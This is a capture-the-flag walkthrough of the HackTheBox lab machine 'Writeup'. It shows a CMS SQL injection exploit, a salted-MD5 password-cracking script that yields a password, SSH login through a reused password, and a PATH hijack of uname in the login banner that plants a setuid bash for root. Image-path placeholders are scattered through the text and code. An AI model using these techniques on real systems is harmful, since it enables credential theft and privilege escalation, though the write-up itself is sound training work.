5 minute read


Writeup is an easy rated linux machine on Hackthebox by jkr. Old version of CMS made Simple was running on Port 80 which is vulnerable to SQL injection. Using the SQLi, hash and salt for user jkr was extracted and the hash was cracked. User Jkr has reused the password and I was able to login on the box using SSH. On the box, user jkr belonged to staff group, which has write permission on some directories which were included on the PATH variable, which was exploited in combination with message of the day to get root shell on the box.


Initial Scan

# Nmap 7.80 scan initiated Sun Jul  4 19:54:30 2021 as: nmap -sC -sV -oN nmap/initial -v
Nmap scan report for
Host is up (0.19s latency).
Not shown: 998 filtered ports
22/tcp open  ssh     OpenSSH 7.4p1 Debian 10+deb9u6 (protocol 2.0)
| ssh-hostkey:
|   2048 dd:53:10:70:0b:d0:47:0a:e2:7e:4a:b6:42:98:23:c7 (RSA)
|   256 37:2e:14:68:ae:b9:c2:34:2b:6e:d9:92:bc:bf:bd:28 (ECDSA)
|_  256 93:ea:a8:40:42:c1:a8:33:85:b3:56:00:62:1c:a0:ab (ED25519)
80/tcp open  http    Apache httpd 2.4.25 ((Debian))
| http-methods:
|_  Supported Methods: OPTIONS HEAD GET POST
| http-robots.txt: 1 disallowed entry
|_http-title: Nothing here yet.
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Read data files from: /usr/bin/../share/nmap
Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
# Nmap done at Sun Jul  4 19:54:58 2021 -- 1 IP address (1 host up) scanned in 27.62 seconds
  • Only two ports are open.
  • Nmap ran a script called http-robots.txt and found a disallowed entry: /writeup.HTTP Service on Port 80

imge Takeaways

  • Eeyore DoS protection script is in place to check for Dos attacks
  • It watches for 40x errors and bans IP of the attacker.
  • Found a email with a hostname: jkr@writeup.htb. Keeping in mind about the email, let us add writeup.htb to our hosts file.

Fuzzing with ffuf

reddevil@ubuntu:~/Documents/htb/retired/writeup$ ffuf -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -u http://writeup.htb/FUZZ -e.txt,.php,.html

        /'___\  /'___\           /'___\
       /\ \__/ /\ \__/  __  __  /\ \__/
       \ \ ,__\\ \ ,__\/\ \/\ \ \ \ ,__\
        \ \ \_/ \ \ \_/\ \ \_\ \ \ \ \_/
         \ \_\   \ \_\  \ \____/  \ \_\\/_/    \/_/   \/___/    \/_/


 :: Method           : GET
 :: URL              : http://writeup.htb/FUZZ
 :: Wordlist         : FUZZ: /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt
 :: Extensions       : .txt .php .html
 :: Follow redirects : false
 :: Calibration      : false
 :: Timeout          : 10
 :: Threads          : 40
 :: Matcher          : Response status: 200,204,301,302,307,401,403

index.html              [Status: 200, Size: 3032, Words: 577, Lines: 65]

After a while, the website let us visit only web pages without having 40x error adding our IP on the block list. This must be the DoS protection the author was talking about.

Visting /writeup from robots.txt

imge We have a page which have writeup for ypuffy, blue and writeup. It must be our lucky day. Let us check the writeup for the box writeup.

imge Dang. It is incomplete. But we can notice a parameter called page on the address bar. I checked whether the parameter is vulnerable to LFI, but I did not find much.

Looking at the page sourceimge This is a instance of CMS made simple and from the copy right, we can assume that this might an old version of the CMS.

While checking for publicly available exploit, I found one in exploit db for SQL injection which was published in 2019.

Checking the exploit

imge We get a username,email, hash and a salt.Trying to crack the hash

Looking at the exploit, the hashing is done using md5(salt + password). I didnot find appropriate mode on hashcat, so I used the code on the exploit to crack the hash.

>>> def crack_password():
...     global password
...     global output
...global wordlist
...     global salt
...     dict = open(wordlist)
...     for line in dict.readlines():
...         line = line.replace("\n", "")
...         if hashlib.md5(str(salt) + line).hexdigest() == password:
...             output += "\n[+] Password cracked: " + line
...             break
...     dict.close()

>>> wordlist='/usr/share/wordlists/rockyou.txt'
>>> salt = '5a599ef579066807'
>>> password = '62def4866937f08cc13bab43bb14e6f7'
>>> output = ''
>>> crack_password()
>>> output
'\n[+] Password cracked: raykayjay9'

And we succesfully crack the password.Trying to login using SSH

Since we have a username and a password, let us try to login with SSH. imge We login with the creds.

Reading user.txt

jkr@writeup:~$ cat user.txt

Privilege Escalation

Checking the content of the webserver

jkr@writeup:/var/www/html$ ls -la
total 20
drwxr-xr-x 3 root     root     4096 Apr 24  2019 .
drwxr-xr-x 3 root     root     4096 Apr 19  2019 ..
-rw-r--r-- 1 root     root     3032 Apr 24  2019 index.html
-rw-r--r-- 1 root     root      310 Apr 24  2019 robots.txt
drwx--- 9 www-data www-data 4096 Apr 19  2019 writeupWe can not read the content of writeup as it is owned by www-data.

Running linpeas

imge We are in group staff and that user have write permission inside /usr/local/bin,/usr/local/games and /usr/local/sbin.

Checking our path

jkr@writeup:~$ echo $PATH

We have /usr/local/bin on the first place. If that is the case with the root user and we can find a binary that a root user is executing with relative path, we can perform path hijacking to get code execution.

Running pspy

I uploaded pspy to check if there are any cronjobs. imge

  • There is one cronjob running which runs as root every minute.
  • Also when the users login using SSH, during the execution of message of the day, uname is executed as root and it has a relative path.
  • Path is set for the root user and the /usr/local/sbin path is on the front.
  • Since we have writeup permission on that path, we can create a malicious uname binary and the malicious binary will be executedwhen we login to the box using SSH.

So, let us create a malicious binary to get code execution as root when we log in.

Content of uname


cp /bin/bash /tmp/bash
chmod 4777 /tmp/bash

I copied it to /usr/local/sbin.

Logging out and logging in with SSH for the motd to runreddevil@ubuntu:~/Documents/htb/retired/writeup$ssh jkr@writeup.htb
jkr@writeup.htb's password:

The programs included with the Devuan GNU/Linux system are free software;
the exact distribution terms for each program aredescribed in the
individual files in /usr/share/doc/*/copyright.

Devuan GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent
permitted by applicable law.
Last login: Sun Jul  4 12:56:11 2021 from

Checking /tmp/bash

imge It exists and has setuid bit set onit.

Getting a root shell

jkr@writeup:/usr/local$ /tmp/bash -p
bash-4.4# id
uid=1000(jkr) gid=1000(jkr) euid=0(root) groups=1000(jkr),24(cdrom),25(floppy),29(audio),30(dip),44(video),46(plugdev),50(staff),103(netdev)

Reading root.txt

bash-4.4# cat /root/root.txt